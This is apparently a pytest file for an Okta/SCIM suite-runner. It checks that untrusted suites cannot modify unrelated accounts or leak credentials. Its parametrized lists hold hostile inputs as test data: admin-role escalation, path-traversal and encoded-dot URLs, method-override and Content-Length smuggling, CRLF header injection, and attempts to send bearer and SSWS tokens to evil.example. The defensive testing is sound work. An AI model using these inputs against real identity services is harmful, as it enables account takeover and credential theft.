"""A suite from anybody can neither reach another server nor change what it didn't create."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from oktascim.check.report import CheckReport
from oktascim.check.run import CheckMeans, ServerUnderTest
from oktascim.check.suite import read_suite
from oktascim.check.suite_run import run_suite
from oktascim.errors import UsageProblem
from oktascim.secret_text import SecretStr

BASE = "https://scim.example/scim/v2"
ORG = "https://acme.okta.com"
API = "{{oktaOrgUrl}}/api/v1"
SCIM_SECRET, TOKEN = "Bearer scim-s3cret-1234", "00org-t0ken-5678"
OURS = {"profile": {"login": "{{okta_user_email}}"}}
AUTH, SSWS = {"Authorization": "{{auth}}"}, {"Authorization": "SSWS {{oktaToken}}"}
MADE = "00uMADE"


def step(method: str, url: str, body: Any = None, headers: Any = None, **members: Any) -> dict[str, Any]:
    text = body if isinstance(body, str) else json.dumps(body) if body is not None else ""
    found = {"step_type": "request", "method": method, "url": url, "headers": headers or {}, "body": text}
    return found | members


CREATE = step("POST", f"{API}/users?activate=true", OURS, SSWS)


def run(
    folder: Path,
    *steps: dict[str, Any],
    answer: bytes = b'{"id":"x"}',
    app: str = "0oaTESTED",
    respond: Callable[[httpx.Request], httpx.Response] | None = None,
) -> tuple[CheckReport, list[str]]:
    """The report, and what was sent, if it isn't responded to otherwise."""
    sent: list[str] = []

    def accept(request: httpx.Request) -> httpx.Response:
        sent.append(f"{request.method} {request.url}")
        if request.url.host == "acme.okta.com" and request.method == "POST" and request.url.path.endswith("/users"):
            return httpx.Response(200, json={"id": MADE, **json.loads(request.content)})
        return httpx.Response(200, content=answer)

    file = folder / "suite.json"
    file.write_text(json.dumps({"steps": steps}), encoding="utf-8")
    means = CheckMeans(transport=httpx.MockTransport(respond or accept))
    target = ServerUnderTest(BASE, "2.0", SecretStr(SCIM_SECRET))
    given = {"oktaOrgUrl": ORG, "oktaToken": TOKEN, "oktaAppId": app}
    report = asyncio.run(run_suite(read_suite(file), target, given, means, pause=0, limit=5))
    return report, sent


@pytest.mark.parametrize(
    "attack",
    [
        step("PUT", f"{API}/groups/00gADMINS/users/{MADE}"),
        step("POST", f"{API}/users/{MADE}/roles", {"type": "SUPER_ADMIN"}),
        step("POST", f"{API}/users?activate=true", OURS | {"groupIds": ["00gADMINS"]}),
        step("POST", f"{API}/users?activate=true", {"profile": {"login": "me@evil.example"}}),
        step("POST", f"{API}/users/{MADE}/../00uOTHER", OURS),
        step("POST", f"{API}/users/{MADE}/%2e%2e/00uOTHER", OURS),
        step("POST", f"{API}/users/{MADE}/..%2f00uOTHER", OURS),
        step("POST", f"{API}/users/{MADE}/..;/00uOTHER", OURS),
        step("POST", f"{API}//users/{MADE}", OURS),
        step("POST", f"{API}/users/00uOTHER;{MADE}", OURS),
        step("DELETE", f"{API}/users/00uOTHER?id={MADE}"),
        step("DELETE", f"{API}/users/{MADE}?id=00uOTHER"),
        step("DELETE", f"{API}/apps/0oaTESTED", {"id": MADE}),
        step("PUT", f"{API}/users/00uOTHER", {"id": MADE}),
        step("POST", f"{API}/users/{MADE}/lifecycle/expire_password"),
        step("POST", f"{API}/apps/0oaOTHER/users", {"id": MADE}),
        step("POST", f"{API}/apps/0oaTESTED/users", f'{{"id": "{MADE}", "id": "00uOTHER"}}'),
        step("POST", f"{API}/apps/0oaTESTED/users", [{"id": MADE}, {"id": "00uOTHER"}]),
        step("POST", f"{API}/apps/0oaTESTED/users/{MADE}", {"id": "00uOTHER"}),
        step("POST", f"{API}/groups", {"id": MADE, "profile": {"name": "theirs"}}),
        step("POST", "{{oktaOrgUrl}}/oauth2/v1/clients", {"id": MADE}),
        step("PUT", f"{API}/users/{MADE}", OURS, {"X-HTTP-Method-Override": "DELETE"}),
        step("PUT", f"{API}/users/{MADE}", OURS, {"Content-Type": "application/json; charset=utf-16"}),
        step("DELETE", "{{SCIMBaseURL}}/Users/{{randomFamilyName}}/../r1"),
        step("DELETE", "{{SCIMBaseURL}}/Users/{{randomFamilyName}}%2F..%2Fr1"),
        step("POST", "{{SCIMBaseURL}}/Bulk", {"Operations": [{"method": "DELETE", "path": "/Users/r1"}]}),
        step("POST", "{{SCIMBaseURL}}/Users/r1", {}),
        step("POST", "{{SCIMBaseURL}}/Users", {}, {"X-HTTP-Method-Override": "DELETE"}),
        step("POST", "{{SCIMBaseURL}}/Users", "{}DELETE /Users/r1", {"Content-Length": "2"}),
    ],
    ids=lambda attack: f"{attack['method']} {attack['url']}",
)
def test_nothing_is_changed_but_what_the_run_created(tmp_path: Path, attack: dict[str, Any]) -> None:
    report, sent = run(tmp_path, CREATE, attack)
    assert [one.passed for one in report.verdicts] == [True, False]
    assert "sent" in report.verdicts[1].detail
    writes = [one for one in sent if not one.startswith("GET ")]  # the clean-up looks for their accounts
    assert writes == [f"POST {ORG}/api/v1/users?activate=true", *[f"DELETE {ORG}/api/v1/users/{MADE}"] * 2]


@pytest.mark.parametrize(
    "attack",
    [
        step(
            "POST", "https://evil.example/Users", {"userName": "{{randomFamilyName}}"}
        ),  # was read back with the secret
        step("GET", "https://scim.example/tenant-of-another", headers=AUTH),
        step("GET", "{{SCIMBaseURL}}/../../tenant-of-another", headers=AUTH),
        step("GET", "{{SCIMBaseURL}}/%252e%252e/%2e%2e/tenant-of-another", headers=AUTH),
        step("GET", "{{SCIMBaseURL}}.evil.example/Users", headers=AUTH),
        step("GET", "https://scim.example.:443/scim/v2/Users", headers=AUTH),
        step("GET", "http://scim.example/scim/v2/Users", headers=AUTH),
        step("GET", "https://evil.example@scim.example/scim/v2/Users", headers=AUTH),
        step("GET", "{{SCIMBaseURL}}/Users", headers=AUTH | {"Host": "evil.example"}),
        step("GET", "{{SCIMBaseURL}}/Users?filter={{auth}}"),
        step("POST", "{{SCIMBaseURL}}/Users", {"userName": "{{SCIMAuth}}"}),
        step("GET", "{{SCIMBaseURL}}/Users", headers={"X-Copy": "{{auth}}"}),
        step("GET", "{{SCIMBaseURL}}/Users", headers=SSWS),
        step("GET", f"{API}/users", headers=AUTH),
        step("POST", f"{API}/users", {"profile": {"login": "{{okta_user_email}}", "title": "{{ oktaToken }}"}}),
        step("GET", "{{oktaOrgUrl}}@evil.example/", headers=SSWS),
        step("GET", "{{oktaOrgUrl}}.evil.example/", headers=SSWS),
    ],
    ids=lambda attack: f"{attack['method']} {attack['url']}",
)
def test_a_secret_goes_to_its_own_server_in_one_header(tmp_path: Path, attack: dict[str, Any]) -> None:
    report, sent = run(tmp_path, attack)
    assert [one.passed for one in report.verdicts] == [False]
    assert sent == []
    assert "s3cret" not in report.verdicts[0].detail


def test_the_default_port_and_the_case_of_the_host_are_the_same_server(tmp_path: Path) -> None:
    report, sent = run(tmp_path, step("GET", "https://SCIM.example:443/scim/v2/Users", headers=AUTH))
    assert ([one.passed for one in report.verdicts], sent) == ([True], [f"GET {BASE}/Users"])


@pytest.mark.parametrize(("status", "left"), [(200, 0), (404, 0), (403, 1)])
def test_a_user_whose_creation_got_no_response_is_looked_up_and_deleted(tmp_path: Path, status: int, left: int) -> None:
    sent: list[str] = []

    def respond(request: httpx.Request) -> httpx.Response:
        sent.append(f"{request.method} {request.url.path.rpartition('/')[2]}")
        if request.method == "POST":
            raise httpx.ReadError("reset")
        login = request.url.path.rpartition("/")[2]
        return httpx.Response(status, json={"id": MADE, "profile": {"login": login}})

    report, _ = run(tmp_path, CREATE, respond=respond)
    assert sent[2:] == [f"DELETE {MADE}"] * 2 * (status == 200)
    assert len(report.left_behind) == left


def test_a_user_created_with_a_query_is_deleted_too(tmp_path: Path) -> None:
    kept: dict[str, bytes] = {}

    def respond(request: httpx.Request) -> httpx.Response:
        if request.method == "POST":
            kept["/scim/v2/Users/u1"] = request.content
            return httpx.Response(201, content=request.content)
        found = kept.pop if request.method == "DELETE" else kept.get
        content = found(request.url.path, None)
        return httpx.Response(200 if content else 404, content=content or b"{}")

    body = {"userName": "{{randomUsername}}", "id": "u1"}
    report, _ = run(tmp_path, step("POST", "{{SCIMBaseURL}}/Users?attributes=id", body, AUTH), respond=respond)
    assert (report.verdicts[0].passed, report.left_behind, kept) == (True, (), {})


def keep(name: str, path: str = "$") -> dict[str, Any]:
    return {"variables": [{"name": name, "source": "response_json", "property": path}]}


@pytest.mark.parametrize(
    ("steps", "told"),
    [
        ([step("GET", "{{SCIMBaseURL}}/Users", headers={"X\u0100": "a"})], "can't set the header"),
        ([step("GET", "{{SCIMBaseURL}}/Users", headers={"X": "a\r\nY: b"})], "can't set the header"),
        ([step("GET", "{{SCIMBaseURL}}/Users", headers={"X": "é"})], "can't set the header"),
        ([step("GET", "{{SCIMBaseURL}}/Users", **keep("u")), step("GET", "{{u}}")], "isn't below"),
        ([step("GET", "{{SCIMBaseURL}}/Users", **keep("u", f"[{'9' * 5000}]")), step("GET", "{{u}}")], "no value"),
        (
            [
                step("GET", "{{SCIMBaseURL}}/Users", **keep("u")),
                step("POST", "{{SCIMBaseURL}}/Users", "{{u}}" * 80_000),
            ],
            "more than 1,000,000 characters",
        ),
    ],
)
def test_what_cannot_be_sent_is_told(tmp_path: Path, steps: list[dict[str, Any]], told: str) -> None:
    report, _ = run(tmp_path, *steps, answer=b'["1234567890"]')
    assert told in report.verdicts[-1].detail


@pytest.mark.parametrize(
    ("steps", "told"),
    [
        ([step("G\u00c4T", BASE)], "known method"),
        ([step("CONNECT", BASE)], "known method"),
        ([{"step_type": "pause", "duration": 0}] * 1001, "at most 1,000"),
        ([{"step_type": "pause", "duration": 180}] * 21, "an hour"),
    ],
)
def test_what_cannot_be_run_is_refused_before_the_first_step(
    tmp_path: Path, steps: list[dict[str, Any]], told: str
) -> None:
    with pytest.raises(UsageProblem, match=told):
        run(tmp_path, *steps)
